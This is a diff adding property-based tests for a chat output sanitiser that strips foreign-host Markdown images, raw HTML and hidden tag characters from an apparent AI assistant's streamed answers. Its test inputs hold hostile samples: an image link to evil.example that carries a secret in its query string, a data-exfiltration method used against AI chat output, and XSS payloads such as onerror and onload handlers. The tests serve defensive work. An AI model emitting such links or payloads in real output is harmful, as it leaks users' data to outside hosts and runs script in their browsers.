@@ -1,0 +1,114 @@
+import { expect } from 'chai';
+import fc from 'fast-check';
+import { Harmless } from '../../workers/completion/harmless.ts';
+
+const clean = (text: string, publicUrl = 'https://chat.example.org') => new Harmless(publicUrl).next(text);
+
+describe('an answer behind the output guard', () => {
+  it('loads no image of another host, in any form of Markdown', () => {
+    const cases: [said: string, shown: string][] = [
+      ['See ![a chart](https://evil.example/x.png?q=secret).', 'See a chart.'],
+      ['![a](//evil.example/x)', 'a'],
+      ['![a](<https://evil.example/x> "title")', 'a'],
+      ['![a](data:image/svg+xml;base64,AAAA)', 'a'],
+      ['![a][ref]\n\n[ref]: https://evil.example/x', '[a][ref]\n\n[ref] https://evil.example/x'],
+      ['![a [b] c](https://evil.example/x)', '[a [b] c](https://evil.example/x)'],
+      ['![a\\](b)](https://evil.example/x)', 'a\\](b)'],
+      [
+        '![a](https://chat.example.org/logo.png) ![b](/logo.png)',
+        '![a](https://chat.example.org/logo.png) ![b](/logo.png)',
+      ],
+      ['![a](https://chat.example.org@evil.example/x)', 'a'],
+      ['![a](\\\\evil.example/x)', 'a'],
+    ];
+    for (const [said, shown] of cases) expect(clean(said), said).to.equal(shown);
+    expect(clean('![a](https://chat.example.org/x)', '')).to.equal('a');
+  });
+
+  it('holds no raw HTML', () => {
+    const cases: [said: string, shown: string][] = [
+      ['<img src=x onerror=alert(1)>Hello', 'Hello'],
+      ['<b>bold</b> and <!-- hidden --> more', 'bold and  more'],
+      ['<scr<b>ipt>alert(1)</scr</b>ipt>', 'alert(1)'],
+      ['<svg/onload=alert(1)', 'svg/onload=alert(1)'],
+      ['<a href="https://evil.example">x</a>', 'x'],
+      ['tag\u{E0041}\u{E0042} characters', 'tag characters'],
+    ];
+    for (const [said, shown] of cases) expect(clean(said), said).to.equal(shown);
+  });
+
+  it('keeps code, signs, links, citations and addresses as they are', () => {
+    for (const said of [
+      'Write `<b>` or ``<i>``, as in\n\n```html\n<img src="https://evil.example/x">\n```\n\nand go on.',
+      'If a < b and c > d, 1 <2 or x<=y',
+      'See [the page](https://other.example/x) and <https://other.example> [5].',
+      'Write to <help@example.org>! Really![5] And![5, 7]',
+      'A ~~~ B\n~~~\n<b>\n~~~\n',
+    ])
+      expect(clean(said), said).to.equal(said);
+  });
+
+  it('takes for code only what Markdown surely does', () => {
+    expect(clean('a ` b `<img src=x>` c')).to.not.contain('<img');
+    const guard = new Harmless('');
+    expect(guard.next('a ` b ') + guard.next('`<img src=x>` c')).to.not.contain('<img');
+    expect(guard.next('\n\nNew: `<b>`')).to.contain('`<b>`');
+    expect(clean('    ```\n<img src=x>\n')).to.not.contain('<img');
+    expect(clean('``` `x`\n<img src=x>\n')).to.not.contain('<img');
+    const fenced = new Harmless('');
+    expect(fenced.next('```\n<a>\n') + fenced.next('<b>\n```\n<c>')).to.equal('```\n<a>\n<b>\n```\n');
+  });
+
+  it('is cut before a tag or an image that goes on', () => {
+    const cut = (text: string) => text.slice(0, Harmless.whereToCut(text, text.length));
+    expect(cut('One. ![a](https://evil.example/?q=')).to.equal('One. ');
+    expect(cut('One. ![an alt')).to.equal('One. ');
+    expect(cut('One. <img src="a. b')).to.equal('One. ');
+    expect(cut('Wow!')).to.equal('Wow');
+    expect(cut('One. Two. ')).to.equal('One. Two. ');
+    const long = `<a ${'x'.repeat(2_000)}`;
+    expect(cut(long)).to.equal(long);
+    expect(clean(long)).to.not.contain('<');
+  });
+
+  it('holds neither, however its pieces are cut at the places that the guard cuts', () => {
+    const pieces = fc.array(
+      fc.constantFrom(
+        '<',
+        '>',
+        'b',
+        '!',
+        '[',
+        ']',
+        '(',
+        ')',
+        'https://evil.example/x',
+        ' ',
+        '\n\n',
+        '/',
+        '`',
+      ),
+      { maxLength: 40 },
+    );
+    fc.assert(
+      fc.property(pieces, fc.array(fc.integer({ min: 1, max: 30 })), (all, sizes) => {
+        let held = all.join('');
+        const guard = new Harmless('');
+        let shown = '';
+        for (const size of sizes) {
+          const end = Harmless.whereToCut(held, Math.min(size, held.length));
+          shown += guard.next(held.slice(0, end));
+          held = held.slice(end);
+        }
+        shown += guard.next(held);
+        const prose = shown.replace(/(`+)[^`]*\1/g, '');
+        expect(prose).to.not.match(/!\[[^\n[\]]*\]\(https:\/\/evil/);
+      }),
+    );
+  });
+
+  it('is cleaned in time linear in the text', () => {
+    for (const piece of ['<', '<a', '![', '![a](', '`', '[a]: ', '<b>', '!', '\n\n', '``` '])
+      expect(clean(piece.repeat(4_000 / piece.length))).to.be.a('string');
+  });
+});
